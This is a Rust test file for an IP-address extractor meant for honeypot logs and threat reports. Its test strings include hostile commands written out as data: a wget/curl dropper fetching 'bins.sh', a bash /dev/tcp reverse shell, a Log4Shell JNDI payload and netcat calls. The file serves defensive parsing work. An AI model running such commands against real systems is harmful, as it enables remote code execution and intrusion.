//! Addresses in free text: commands of honeypots, requests, reports.

use super::*;
use crate::address::parse_host;
use std::time::{Duration, Instant};

mod escapes;

pub(super) fn found(text: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    scan(text, |ip| {
        found.push(ip.to_string());
        true
    });
    found
}

#[track_caller]
fn finds(text: &str, addresses: &[&str]) {
    assert_eq!(found(text.as_bytes()), addresses, "{text:?}");
}

#[test]
fn commands_and_requests_give_their_addresses() {
    finds("", &[]);
    finds("81.2.69.142", &["81.2.69.142"]);
    finds(
        "cd /tmp; wget http://81.2.69.142/bins.sh || curl -O ftp://u:p@81.2.69.143:21/x",
        &["81.2.69.142", "81.2.69.143"],
    );
    finds("bash -i >& /dev/tcp/81.2.69.142/22 0>&1", &["81.2.69.142"]);
    finds("${jndi:ldap://81.2.69.142:1389/a}", &["81.2.69.142"]);
    finds("INVITE sip:100@81.2.69.142;transport=udp", &["81.2.69.142"]);
    finds("ping -c1 81.2.69.142.", &["81.2.69.142"]);
    finds("echo -e \"\\n81.2.69.142\\t81.2.69.143\"", &["81.2.69.142", "81.2.69.143"]);
    finds(
        "GET /?u=http%3A%2F%2F81.2.69.142%3A80%2F&v=%201.2.3.4&w=%2010.1.1.1",
        &["81.2.69.142", "1.2.3.4", "10.1.1.1"],
    );
    finds(
        "Forwarded: for=\"[2001:db8::1]:4711\"; from 81.2.69.142-81.2.69.150",
        &["2001:db8::1", "81.2.69.142", "81.2.69.150"],
    );
    finds("{\"a\":\"81.2.69.142\",\"b\":[\"::1\"]}", &["81.2.69.142", "::1"]);
    finds("nc 81.2.69.142:4444;nc 81.2.69.143,4444", &["81.2.69.142", "81.2.69.143"]);
    finds("von 81.2.69.142\u{2026}und\u{a0}81.2.69.143\u{3002}", &["81.2.69.142", "81.2.69.143"]);
    finds("inet 10.1.2.3/24 brd", &["10.1.2.3"]);
    finds("src:2001:db8::2 [IPv6:2001:db8::3] ip:81.2.69.142", &["2001:db8::2", "2001:db8::3", "81.2.69.142"]);
    finds("\u{1b}[31m81.2.69.142\u{1b}[0m \\e[1;31m81.2.69.143", &["81.2.69.142", "81.2.69.143"]);
    finds("/dev/tcp/5.5.5.5 tcp/81.2.69.142 /Data/81.2.69.143", &["5.5.5.5", "81.2.69.142", "81.2.69.143"]);
    finds("1.2.3.4/32 2001:db8::1/128", &["1.2.3.4", "2001:db8::1"]);
}

#[test]
fn odd_spellings_count() {
    finds(
        "wget http://2130706433/x; curl http://0x7f.1:80; curl http://u@0177.0.0.1",
        &["127.0.0.1", "127.0.0.1", "127.0.0.1"],
    );
    finds(
        "81[.]2[.]69[.]142 hxxp[://]81(dot)2(dot)69(dot)143[/]a hxxps://81[.]2.69.144:8080/x",
        &["81.2.69.142", "81.2.69.143", "81.2.69.144"],
    );
    finds("2001[:]db8[:][:]1 und 2001:db8::2.", &["2001:db8::1", "2001:db8::2"]);
    finds("086.035.071.014", &["86.35.71.14"]);
    finds("::ffff:81.2.69.142, 64:ff9b::81.2.69.142", &["::ffff:81.2.69.142", "64:ff9b::5102:458e"]);
    finds("fe80::1%eth0 [fe80::2]:22", &["fe80::1", "fe80::2"]);
    finds("10:81.2.69.142:80", &["81.2.69.142"]);
}

#[test]
fn ipv6_in_a_url_without_brackets_is_no_host_with_a_port() {
    finds("wget http://2600:3c00::f03c:91ff/x.sh", &["2600:3c00::f03c:91ff"]);
    finds("${jndi:ldap://2400:cb00:2048:1::1:1389/a}", &["2400:cb00:2048:1::1:1389"]);
    finds("tcp://2606:4700::1111:80", &["2606:4700::1111:80"]);
    finds(
        "curl -g http://u:p@2001:db8:0:1:1:1:1:1/ http://::1/ http://2001:db8::/",
        &["2001:db8:0:1:1:1:1:1", "::1", "2001:db8::"],
    );
    finds("hxxp://2600[:]3c00[:][:]f03c[:]91ff/x", &["2600:3c00::f03c:91ff"]);
    // More than a group before the first colon.
    finds("http://0x7f.1:80:90/ http://2130706433:80&", &["127.0.0.1", "127.0.0.1"]);
}

#[test]
fn one_url_has_one_address_wherever_it_ends_and_however_it_is_defanged() {
    for url in [
        "http://010.1.1.1",
        "http://010[.]1.1.1",
        "hxxp[:]//010.1.1.1",
        "hxxp[:][/][/]010(dot)1(dot)1(dot)1",
        "hxxp[://]010.1.1.1",
        "http:\\/\\/010.1.1.1",
        "http://u:p$*[@]010.1.1.1",
        "http://u:p!@010.1.1.1[:]80",
        "http://010.1.1.1:80",
        "hxxp[:]//134283521",
        "hxxp://0x08[.]0x10101",
    ] {
        for after in [
            "",
            " ",
            "/",
            "[/]x",
            "&& x@y",
            "&e=a@b.c",
            "$IFS-O",
            "*",
            "]",
            "!",
            "=",
            "%20x",
            "%0a",
            "\u{1b}[0m",
            "\u{a0}x",
            "\u{201d}",
            "{a,b}",
            "(x)",
            "[x]",
            "\\n",
            "\\/x",
        ] {
            finds(&format!("{url}{after}"), &["8.1.1.1"]);
            finds(&format!("[{url}{after}"), &["8.1.1.1"]);
        }
    }
    finds(
        "curl http://010.1.1.1$x=9.9.9.9 hxxp://u[@]0x7f[.]1[:]80$x=9.9.9.9",
        &["8.1.1.1", "9.9.9.9", "127.0.0.1", "9.9.9.9"],
    );
    // Names stay names.
    finds("http://1\u{e9}.example/ http://010[.]1.1.1[.]example/ http://0x7f%2eexample/ http://1-2.example/", &[]);
    // Where the look ends, the address it ends in is not taken for the whole host.
    for user in 200..260 {
        let text = format!("http://{}@203.0.113.99/", "u".repeat(user));
        finds(&text, &["203.0.113.99"]);
    }
}

#[test]
fn an_address_in_a_name_is_none() {
    for text in [
        "http://81.2.69.142-static.example.com/",
        "http://81.2.69.142_a.example.com:80/",
        "http://u:p@81.2.69.142-a.example.com/",
        "http://81.2.69.142@example.com/",
        "http://81.2.69.142\u{e9}.example/",
        "hxxp://81[.]2[.]69[.]142-a[.]example/",
        "a@81.2.69.142-x.example.com",
        "81.2.69.142-x-1.example.com",
        "http://10.0.0.$i/ http://10.0.0.{1..9}/",
        "81[.]2[.]69[.]142-static[.]example[.]com",
        "81.2.69.142-static%2eexample%2ecom 81.2.69.142-static\\.example\\.com",
        "81.2.69.142%2dstatic.example.com 81.2.69.142&#45;static.example.com",
        "http://81.2.69.142\\x2dstatic.example.com/ http://81.2.69.142\\u00e9.example/",
        "81.2.69.142-static.example.xn--p1ai 81.2.69.142-static.example.\u{440}\u{444}",
        "81.2.69.142-\\u0445.example.com 81.2.69.142-%d1%85.example.com",
        "1.2.3.4-5.6.7.8.example.com",
    ] {
        finds(text, &[]);
    }
    for range in ["81.2.69.142-81.2.69.150", "81.2.69.142-81.2.69.150.", "81.2.69.142%2d81.2.69.150"] {
        finds(range, &["81.2.69.142", "81.2.69.150"]);
    }
    for text in [
        "81.2.69.142_443.pcap",
        "upload_81.2.69.142_2024.zip",
        "fail2ban 81.2.69.142-sshd.log",
        "81.2.69.142-2026.11.30.log",
        "user 81.2.69.142-john.doe logged in",
        "user 81.2.69.142-john.doe. Then",
        "john.doe 81.2.69.142",
        "key=81.2.69.142_api.login count=5",
        "key=81.2.69.142_api.login.count=5",
        "81.2.69.142-nginx-1.27.4",
        "81.2.69.142-10.0.0.5.pcap.gz",
        "81.2.69.142-10.0.0.5.tar.gz",
        "81.2.69.142:443-10.0.0.5.flow.json",
        "81.2.69.142-access.log.GZ",
        "81.2.69.142-access.log.bz2",
        "81.2.69.142--",
    ] {
        finds(text, &["81.2.69.142"]);
    }
    finds("session 81.2.69.142-10.0.0.1-www.example.com", &["81.2.69.142", "10.0.0.1"]);
    finds("ban 2001:db8::1-foo.bar 2001:db8::2-static.foo.bar", &["2001:db8::1", "2001:db8::2"]);
    finds("http://81.2.69.142\\uff0c http://81.2.69.143\\u201d&#160;x", &["81.2.69.142", "81.2.69.143"]);
    finds("http://81.2.69.142- 81.2.69.143_x", &["81.2.69.142", "81.2.69.143"]);
    finds("http://81.2.69.142\u{3042} http://example.com/81.2.69.143", &["81.2.69.142", "81.2.69.143"]);
    finds("http://example.com=81.2.69.142,http://a.example:81.2.69.143", &["81.2.69.142", "81.2.69.143"]);
}

#[test]
fn slashes_behind_a_scheme_of_browsers_may_be_any() {
    for url in
        ["http:\\\\2130706433\\x", "http:/127.0.0.1/", "http:0177.0.0.1", "HTTPS:///2130706433/", "ftp:\\/0x7f.1/"]
    {
        finds(url, &["127.0.0.1"]);
    }
    finds("http:\\\\010.1.1.1", &["8.1.1.1"]);
    // Ports, versions, times, telephone numbers.
    finds(
        "http:8080 https:443/ http:1.1 http:/1.1 http:1700000000 x:/2130706433/ sip:2125551212 sip://2125551212",
        &[],
    );
    // Keys with a time, a day or a number in them.
    for text in [
        "redis GET ws:1732989771:room",
        "http://1732989771:room ws://u@1732989771:room:5",
        "ftp:1732989771/0",
        "ws:20241130/session",
        "wss:20241130?x",
        "https:20241130:backup ok",
        "hxxp:0x1732989771:x",
        "http:/1732989771/x",
        "http:\\1732989771\\x",
        "http:///443",
        "http://443_",
        "http://8080-x_",
        "https:///2480",
        "https:///1732989771:room",
    ] {
        finds(text, &[]);
    }
    finds("http://2130706433/ http://2130706433. http://443", &["127.0.0.1", "127.0.0.1", "0.0.1.187"]);
    finds("http://2130706433:$PORT/ http://81.2.69.142:room", &["127.0.0.1", "81.2.69.142"]);
    finds("https:///242001:db8::1/24", &["db8::1"]);
}

#[test]
fn half_brackets_and_backslashes_are_separators() {
    for text in ["81.2.69[.142", "81.2.69.]142", r"81\.2\.69\.142", r"81\\.2\\.69\\.142", "81 [.] 2 [.] 69 [.] 142"] {
        for scheme in ["", "hxxp://", "hxxp[:]//", "\"", " "] {
            finds(&format!("{scheme}{text}"), &["81.2.69.142"]);
            finds(&format!("x {scheme}{text}/x"), &["81.2.69.142"]);
        }
    }
    finds("2001[:]db8[::]1 hxxp://[2001[:]db8[::]2]/", &["2001:db8::1", "2001:db8::2"]);
    // An address of its own, beside another one.
    for (text, address) in [
        ("[::]81.2.69.142", "81.2.69.142"),
        ("[::]2001:db8::1", "2001:db8::1"),
        ("2001:db8::1[::]", "2001:db8::1"),
        ("2001:db8::1[::]443", "2001:db8::1"),
        ("81.2.69.142[::]443", "81.2.69.142"),
    ] {
        finds(text, &[address]);
    }
    finds("80[::] 12:30:45[::] [::]443 [::]:443 12:30 [::] 443 http://[::]:80/ x[::]y", &[]);
    finds("[81.2.69.142] root@[IPv6:2001:db8::1]", &["81.2.69.142", "2001:db8::1"]);
}

#[test]
fn numbers_are_read_as_in_a_text_that_is_one_address() {
    for (text, address) in [
        ("sip:100@010.1.1.1", "10.1.1.1"),
        ("sips://100@010.1.1.1:5061", "10.1.1.1"),
        ("sip:086.035.071.014", "86.35.71.14"),
        ("http://010.1.1.1/", "8.1.1.1"),
        ("http://086.035.071.014/x", "86.35.71.14"),
        ("//010.1.1.1/x", "10.1.1.1"),
        ("[010.1.1.1]", "10.1.1.1"),
    ] {
        finds(text, &[address]);
        assert_eq!(parse_host(text.as_bytes()), Ok(address.parse().ok()), "{text}");
    }
}

#[test]
fn what_is_something_else_is_left_out() {
    for text in [
        "1.2.3",
        "1.2.3.4.5",
        "1.2.3.256",
        "v1.2.3.4",
        "1.2.3.4a",
        "1.2.3.4.example.com",
        "http://1.2.3.4.nip.io/",
        "x1.2.3.4",
        "1.2.3.4[.]example[.]com",
        "a[.]1[.]2[.]3[.]4",
        "1234.1.1.1",
        "10.0.0.0/8",
        "2001:db8::/32",
        "std::fmt::Display",
        "Foo::Bar",
        "a::b",
        "::",
        "12:34:56",
        "2026-11-28T10:11:12.345Z",
        "00:11:22:33:44:55",
        "00:11:22:33:44:55:66:77",
        "SHA 1a:2b:3c:4d:5e:6f:70:81:92:a3:b4:c5:d6:e7:f8:09",
        "Chrome/120.0.6099.109",
        "Chrome/126.0.0.0 Edg/125.0.0.0",
        "http://example.com:8080/1.2",
        "....",
        "::::",
        "1:2",
        "([{:.",
        "http://",
        "://",
        "1...2.3.4",
        "fe80::1x",
    ] {
        finds(text, &[]);
    }
}

#[test]
fn it_stops_where_it_is_told_to_and_after_a_megabyte() {
    let mut count = 0;
    scan("1.1.1.1 2.2.2.2 3.3.3.3".as_bytes(), |_| {
        count += 1;
        count < 2
    });
    assert_eq!(count, 2);
    let late = format!("{}1.2.3.4 5.6.7.8", " ".repeat(MOST_BYTES - 7));
    assert_eq!(found(late.as_bytes()), [""; 0], "it touches the cut");
    let late = format!("{}1.2.3.4 5.6.7.8", " ".repeat(MOST_BYTES - 8));
    assert_eq!(found(late.as_bytes()), ["1.2.3.4"]);
}

#[test]
fn a_megabyte_of_anything_is_read_in_one_pass() {
    for unit in [
        "x",
        "1.",
        ":",
        "/",
        "[",
        "[.]",
        "a:",
        "1:",
        "a[:]",
        "://",
        "://u@",
        "1.2.3.",
        "::1",
        "%20",
        "1.2.3.4/",
        "(dot)1",
        "\\n1.",
        "f",
        "://1[.]",
        "://[@]",
        "://%31",
        "%20::",
        "%",
        "%25",
        "%2531.",
        "[.",
        ".]1",
        "\\",
        "\\.1",
        "http:/",
        "http:1",
        "http:\\",
        " [.] 1",
        "[::]",
        "1.1.1.1-",
        "\\u{3",
        "&#5",
        "http://1.1.1.1-a/",
        "1.1.1.1-a-1.a-",
        "1[::]",
        "[::]1:",
        "(",
        "\\\\1.",
        "&amp;1.",
        "1.1.1.1-a[.]",
        "&#1:",
    ] {
        let text = unit.repeat(MOST_BYTES / unit.len());
        let start = Instant::now();
        found(text.as_bytes());
        // Generous for a machine that is busy and a build that is not optimized: a second pass for each byte would take
        // minutes.
        assert!(start.elapsed() < Duration::from_secs(30), "{unit:?}: {:?}", start.elapsed());
    }
}
